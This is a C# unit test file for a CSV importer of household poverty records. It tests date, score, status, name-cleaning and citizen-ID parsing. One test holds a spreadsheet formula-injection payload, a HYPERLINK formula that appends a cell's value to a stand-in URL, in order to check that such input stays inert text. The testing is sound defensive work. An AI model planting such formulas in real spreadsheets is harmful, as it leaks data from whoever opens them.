using System.Globalization;
using System.Text;
using CauNoi.Data.Exchange.Tables;
using CauNoi.Data.Exchange.Tables.Records;
using CauNoi.Data.Registry;

namespace CauNoi.Data.Tests.Exchange.Tables;

/// <summary>What a single cell may hold, and what is said where it may not.</summary>
public sealed class CellTests
{
    [Theory]
    [InlineData("2025-12-09", "2025-12-09", null)]
    [InlineData("05/12/2025", "2025-12-05", null)]
    [InlineData("3/4/2026", "2026-04-03", null)]
    [InlineData("9-12-2025", "2025-12-09", null)]
    [InlineData("9.12.2025", "2025-12-09", null)]
    [InlineData("29/02/2024", "2024-02-29", null)]
    [InlineData("2025-12-09T00:00:00", "2025-12-09", null)]
    [InlineData("09/12/2025 00:00", "2025-12-09", null)]
    [InlineData("46000", "2025-12-09", RemarkKind.SerialDate)]
    [InlineData("29/02/2025", null, RemarkKind.ImpossibleDate)]
    [InlineData("31/02/2026", null, RemarkKind.ImpossibleDate)]
    [InlineData("12/31/2025", null, RemarkKind.ImpossibleDate)]
    [InlineData("2026-13-01", null, RemarkKind.ImpossibleDate)]
    [InlineData("0000-00-00", null, RemarkKind.ImpossibleDate)]
    [InlineData("12/2025", null, RemarkKind.PartialDate)]
    [InlineData("2025", null, RemarkKind.PartialDate)]
    [InlineData("05/12/25", null, RemarkKind.TwoDigitYear)]
    [InlineData("2025-12-08T17:00:00Z", null, RemarkKind.NotADate)]
    [InlineData("hôm qua", null, RemarkKind.NotADate)]
    public void A_date_is_read_day_first_and_never_guessed(string text, string? date, RemarkKind? remark)
    {
        var reading = ReadCell("last_review_date", text);
        Assert.Equal(date is null ? null : DateOnly.ParseExact(date, "yyyy-MM-dd", CultureInfo.InvariantCulture), reading.Value?.LastReviewDate);
        Assert.Equal(remark, reading.Remarks.SingleOrDefault()?.Kind);
        Assert.Equal(date is null, reading.Value is null);
    }

    [Theory]
    [InlineData("b1_score", "400", null, null)]
    [InlineData("b1_score", "401", RemarkKind.OutOfRange, "0–400")]
    [InlineData("b1_score", "-20", RemarkKind.OutOfRange, "0–400")]
    [InlineData("b2_score", "130", RemarkKind.OutOfRange, "0–120")]
    [InlineData("b2_score", "99999999999999999999999999999999999999", RemarkKind.OutOfRange, "0–120")]
    [InlineData("b2_score", "1e400", RemarkKind.NotANumber, "0–120")]
    [InlineData("b1_score", "NaN", RemarkKind.NotANumber, "0–400")]
    [InlineData("b1_score", "12o", RemarkKind.NotANumber, "0–400")]
    [InlineData("b1_score", "1.000", RemarkKind.NotANumber, "0–400")]
    [InlineData("status_year", "", RemarkKind.ValueMissing, null)]
    [InlineData("water", "2", RemarkKind.UnknownWord, "0, 1, x")]
    [InlineData("status", "Hộ khá", RemarkKind.UnknownWord, null)]
    [InlineData("status", "0", RemarkKind.UnknownWord, null)]
    [InlineData("area", "", RemarkKind.ValueMissing, null)]
    [InlineData("head_name", " \u200B ", RemarkKind.ValueMissing, null)]
    [InlineData("head_name", "Lý\0A Sình", RemarkKind.NulInCell, null)]
    [InlineData("head_name", "L\uFFFD A Sình", RemarkKind.UnreadableLetters, null)]
    [InlineData("head_name", "NguyÔn V¨n B×nh", RemarkKind.LegacyFont, null)]
    [InlineData("head_name", "hoä ngheøo", RemarkKind.LegacyFont, null)]
    public void What_cannot_be_taken_refuses_the_record_and_names_column_and_bounds(string column, string text, RemarkKind? kind, string? detail)
    {
        var reading = ReadCell(column, text);
        Assert.Equal(kind is null, reading.Value is not null);
        Assert.Equal(
            kind is null ? [] : [new Remark("h.csv", 1, 2, column, kind.Value, Severity.Refuse, detail)],
            reading.Remarks.Where(r => r.Severity == Severity.Refuse));
    }

    [Theory]
    [InlineData("Hộ nghèo", HouseholdStatus.Poor)]
    [InlineData("HỘ CẬN NGHÈO", HouseholdStatus.NearPoor)]
    [InlineData("ho moi thoat ngheo", HouseholdStatus.NewlyEscapedPoor)]
    [InlineData("Hộ có mức sống trung bình", HouseholdStatus.AverageLiving)]
    [InlineData("not_poor", HouseholdStatus.NotPoor)]
    public void A_class_may_be_said_in_words(string text, HouseholdStatus status) => Assert.Equal(status, ReadCell("status", text).Value!.Status);

    [Theory]
    [InlineData("x", true)]
    [InlineData("X", true)]
    [InlineData("✓", true)]
    [InlineData("có", true)]
    [InlineData("không", false)]
    [InlineData("-", false)]
    [InlineData("", false)]
    public void A_box_may_be_ticked_in_many_ways(string text, bool isDeprived) =>
        Assert.Equal(isDeprived, ReadCell("water", text).Value!.Deprivations!.Value.HasFlag(Deprivations.Water));

    [Theory]
    [InlineData("  Lý\u00A0 Seo  Lử\u200F")]
    [InlineData("Lý Seo L\uFEFFử")]
    [InlineData("Lý\tSeo Lử\u0007")]
    [InlineData("Ｌý Seo Lử")]
    public void Marks_that_nobody_sees_are_taken_away_and_told(string text)
    {
        var reading = ReadCell("head_name", text);
        Assert.Equal("Lý Seo Lử", reading.Value!.HeadName);
        Assert.Equal([RemarkKind.Cleaned], reading.Remarks.Select(r => r.Kind));
        Assert.False(reading.IsFlagged);
        Assert.Equal("Lý Seo Lử", ReadCell("head_name", "Lý Seo Lử".Normalize(NormalizationForm.FormD)).Value!.HeadName);
    }

    [Fact]
    public void Formulas_and_markup_stay_the_text_they_are()
    {
        const string Formula = "=HYPERLINK(\"http://example.invalid/?x=\"&A1;<b>\"bấm\"</b>)";
        Assert.Equal(Formula, ReadCell("notes", Formula).Value!.Notes);
        Assert.True(ReadCell("head_name", "=1+1").IsFlagged);
    }

    [Fact]
    public void A_cell_that_is_too_long_names_the_limit_and_not_itself()
    {
        Assert.NotNull(ReadCell("notes", new string('á', TableLimits.LongestCell)).Value);
        Assert.Equal(
            [new Remark("h.csv", 1, 2, "notes", RemarkKind.CellTooLong, Severity.Refuse, $"{TableLimits.LongestCell}")],
            ReadCell("notes", new string('á', TableLimits.LongestCell + 1)).Remarks);
        Assert.Equal(RemarkKind.CellTooLong, ReadCell("household_code", new string('9', TableLimits.LongestCode + 1)).Remarks.Single().Kind);
    }

    [Theory]
    [InlineData("097082104729", "097082104729", null, null)]
    [InlineData("097 082 104 729", "097082104729", null, null)]
    [InlineData("", null, null, null)]
    [InlineData("97082104729", "097082104729", RemarkKind.LeadingZeroRestored, "9•••••••••9 → 09•••••••••9")]
    [InlineData("1.23457E+11", null, RemarkKind.ScientificId, null)]
    [InlineData("\"9,71951E+10\"", null, RemarkKind.ScientificId, null)]
    [InlineData("123456789", null, RemarkKind.NotACitizenId, null)]
    [InlineData("09708210472x", null, RemarkKind.NotACitizenId, null)]
    public void A_citizen_id_has_twelve_digits_and_is_never_repeated_in_a_remark(string text, string? id, RemarkKind? kind, string? detail)
    {
        using var reading = SampleTable.Tables.Members(SampleTable.File(SampleTable.Members(text)));
        var member = Assert.Single(reading.Records());
        Assert.Equal(id, member.Value?.CitizenId);
        Assert.Equal((kind, detail), (member.Remarks.SingleOrDefault()?.Kind, member.Remarks.SingleOrDefault()?.Detail));
        Assert.Equal(kind == RemarkKind.LeadingZeroRestored, member.Remarks.Any(r => r.NeedsConsent));
    }

    [Fact]
    public void Members_hamlets_and_years_are_read_as_records()
    {
        using var members = SampleTable.Tables.Members(SampleTable.File(SampleTable.Members("097082104729", "Nữ", "không")));
        using var hamlets = SampleTable.Tables.Hamlets(SampleTable.File(
            "Mã tỉnh;Tên tỉnh;Mã xã;Tên xã;Mã thôn;Tên thôn;Khu vực\n97;Tỉnh Lam Khê;97001;Xã Hòa Rạng;97001001;Bản Nà Cài;Nông thôn\n"));
        using var history = SampleTable.Tables.History(SampleTable.File("household_code\tyear\tstatus\n97001001-0006\t2024\tnear_poor\n"));
        Assert.Equal((Sex.Female, new DateOnly(1971, 2, 3), false, null), members.Records().Select(m => m.Value!)
            .Select(m => (m.Sex!.Value, m.BirthDate!.Value, m.HasHealthInsurance!.Value, m.AttendsSchool)).Single());
        Assert.Equal(("97", "97001", "97001001", "Bản Nà Cài"), hamlets.Records().Select(h => h.Value!)
            .Select(h => (h.ProvinceCode, h.CommuneCode, h.Code, h.Name)).Single());
        Assert.Equal(("97001001-0006", 2024, HouseholdStatus.NearPoor), history.Records().Select(h => h.Value!)
            .Select(h => (h.HouseholdCode, h.Year, h.Status)).Single());
    }

    private static RecordReading<HouseholdRecord> ReadCell(string column, string text) =>
        Assert.Single(SampleTable.Read(SampleTable.File(SampleTable.Csv(SampleTable.With((column, text))))).Records);
}
